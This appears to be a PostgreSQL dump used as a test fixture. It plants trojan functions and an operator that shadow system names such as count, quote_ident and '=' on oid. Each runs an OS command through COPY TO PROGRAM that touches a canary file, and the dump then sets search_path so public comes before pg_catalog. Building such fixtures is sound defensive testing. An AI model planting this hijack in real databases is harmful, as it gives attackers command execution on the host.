-- SPDX-License-Identifier: Apache-2.0
-- Attempts: functions and operators named like the system's, for those who question the database without a schema.
--
-- PostgreSQL database dump
--

-- Dumped from database version 15.18
-- Dumped by pg_dump version 15.18

SET statement_timeout = 0;
SET lock_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
SET check_function_bodies = false;
SET row_security = off;

CREATE FUNCTION public.count(text) RETURNS bigint LANGUAGE plpgsql AS $$BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch CANARY_FILE'''; RETURN 7; END$$;
CREATE FUNCTION public.quote_ident(name) RETURNS text LANGUAGE plpgsql AS $$BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch CANARY_FILE'''; RETURN 'x'; END$$;
CREATE FUNCTION public.evil(oid, oid) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''touch CANARY_FILE'''; RETURN true; END$$;
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = public.evil);
CREATE SCHEMA first;
DO $$BEGIN EXECUTE format('ALTER DATABASE %I SET search_path = public, pg_catalog', current_database()); EXECUTE format('ALTER ROLE %I SET search_path = public, pg_catalog', current_user); END$$;
CREATE TABLE public.t (a integer);

--
-- PostgreSQL database dump complete
--

